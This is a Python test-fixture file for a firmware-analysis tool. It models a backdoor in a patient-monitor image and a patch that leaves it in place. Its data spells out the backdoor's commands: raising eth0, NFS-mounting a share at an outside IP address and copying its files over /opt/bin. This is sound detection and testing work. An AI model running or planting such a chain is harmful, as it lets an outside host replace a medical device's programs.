"""In: nothing. Out: two firmware versions as every document is asked to draw them: one found, one not repaired."""

from dataclasses import replace

import pytest

from wardwatch.dissection import (
    Audited,
    Chain,
    Change,
    Comparison,
    Component,
    Dissection,
    Instruction,
    Mitigation,
    Moved,
    Recovered,
    StartUp,
    Step,
    Stop,
    Stretch,
)
from wardwatch.vocabulary import (
    Asked,
    Evidence,
    EvidenceKind,
    Examined,
    Finding,
    Gap,
    Report,
    Severity,
    Subject,
    SubjectKind,
    judge,
)

IMAGE = "cms8000-2.0.6.cramfs"
MONITOR = "/opt/bin/monitor"


def step(title: str, behaviour: str, address: int, detail: str, state: tuple[str, str]) -> Step:
    needs, changes = state
    listing = (
        Instruction(address - 4, "0c009fe5", "ldr r0, [pc, #0xc]"),
        Instruction(address, "5d0200eb", "bl 0x8a10 <system>", marked=True),
    )
    return Step(
        title, behaviour, f"firmware.{behaviour}", MONITOR, "do_update", address, None, detail, (needs,), (changes,),
        (Recovered("command", detail),), listing,
    )  # fmt: skip


CHAIN = Chain(
    "Files of a remote share replace the device's programs",
    "menu",
    (
        step("takes interface eth0 up", "interface-enabled", 0x8F20, "ifconfig eth0 up", ("eth0", "eth0 is up")),
        step(
            "mounts 202.114.4.119:/pm", "remote-mount", 0x8F2C, "mount -o nolock -t nfs 202.114.4.119:/pm /mnt",
            ("eth0 is up, a route to 202.114.4.119", "/mnt is the share"),
        ),
        step(
            "copies files from there over /opt/bin", "overwrites-programs", 0x8F38, "cp -rf /mnt/bin /opt",
            ("/mnt is the share", "programs in /opt/bin are those of the share"),
        ),
        step("takes the share away again", "unmount", 0x8F44, "umount /mnt", ("/mnt is the share", "/mnt is empty")),
    ),
    (
        Stop("/etc/inittab", "", "at start-up", None, 3),
        Stop("/etc/init.d/rcS", "", "runs", None, 4),
        Stop(MONITOR, "main", "starts", 0x8C10),
        Stop(MONITOR, "menu", "menu item 'Update'", 0x8E00),
        Stop(MONITOR, "do_update", "through a table", 0x8F00),
    ),
    completes=True,
    why="Every step finds what it needs: nothing between them takes it away",
    mitigations=(
        Mitigation("block-address", "the address is blocked", "stops", "mounts 202.114.4.119:/pm", "nothing arrives"),
        Mitigation(
            "eth0-down-at-start", "eth0 is taken down at start", "does not stop", "takes interface eth0 up",
            "the function takes it up again first",
        ),
    ),
)  # fmt: skip
COVERAGE = (
    Stretch(0, 60_000, "examined", "cramfs"),
    Stretch(60_000, 4_096, "padding", "zeros"),
    Stretch(64_096, 1_440, "not understood", "data", 7.91),
)
DISSECTION = Dissection(
    IMAGE,
    (CHAIN,),
    COVERAGE,
    (
        StartUp(1, "/etc/inittab", 3, "/etc/init.d/rcS", "once, at start-up"),
        StartUp(2, "/etc/init.d/rcS", 4, "/opt/bin/monitor &", "after it", depth=1),
    ),
    (
        Component("kernel", "Linux", "/boot/zImage", "ab" * 32, 1_200_000, "2.6.27"),
        Component("program", "monitor", MONITOR, "cd" * 32, 30_212, "", ("architecture: ARM", "stripped: yes")),
    ),
    (
        Audited("integrity", "absent", "no call that checks a hash lies between fetch and copy", MONITOR),
        Audited("version record", "cannot tell", "the programs that are copied were not in the image"),
    ),
    ("cramfs, little-endian",),
    30_212,
    214,
)  # fmt: skip
GAP = Gap(IMAGE, "1,440 bytes at 0xfa60", "no reader understands them (7.91 bits of entropy a byte)", ())


def finding(rule: str, title: str, summary: str) -> Finding:
    where = {
        "file": MONITOR, "address": 0x8F2C, "name": "do_update", "trigger": "menu",
        "call_path": ("/etc/inittab", "/etc/init.d/rcS", MONITOR, "main", "menu", "do_update"), "peer": "202.114.4.119",
    }  # fmt: skip
    evidence = Evidence(EvidenceKind.FUNCTION, where, "mount -o nolock -t nfs 202.114.4.119:/pm /mnt")
    return Finding(rule, IMAGE, title, Severity.CRITICAL, 0.97, summary, (evidence,), ("CVE-2025-0626", "CWE-912"))


FOUND = (
    finding(
        "firmware.reverse-backdoor", "A remote share replaces programs", "The chain is whole, and a menu leads there."
    ),
    finding("firmware.remote-mount", "A remote share is mounted", "do_update mounts 202.114.4.119:/pm."),
)


@pytest.fixture
def image() -> Report:
    judgement = judge(FOUND, (GAP,))
    return Report(
        judgement,
        (Examined(IMAGE, "cramfs", 65_536, 64_096, 65_536, "bytes", "ef" * 32),),
        (Subject(IMAGE, SubjectKind.IMAGE, IMAGE, judgement),),
        dissections=(DISSECTION,),
    )


@pytest.fixture
def not_fixed(image: Report) -> Report:
    new = "cms8000-2.0.8.cramfs"
    still = tuple(replace(each, subject=new) for each in FOUND)
    judgement = judge(still, (), Asked.PATCH)
    changes = (
        Change(
            "firmware.reverse-backdoor", FOUND[0].title, "not-fixed",
            "eth0 is taken down at start, and the function takes it up again before it mounts", CHAIN, CHAIN,
        ),
        Change(
            "firmware.clear-telemetry", "Patient data is sent in clear", "fixed",
            "no call sends patient data any more", None, None, ("every call that sends", "every path to a socket"),
        ),
    )  # fmt: skip
    comparison = Comparison(
        IMAGE, new, changes, (Moved("file", "changed", "/etc/init.d/rcS", "/etc/init.d/rcS", "1 line added"),), 11, 213
    )
    inputs = (image.inputs[0], replace(image.inputs[0], path=new))
    return Report(
        judgement,
        inputs,
        (Subject(new, SubjectKind.IMAGE, new, judgement),),
        dissections=(replace(DISSECTION, subject=new),),
        comparison=comparison,
    )
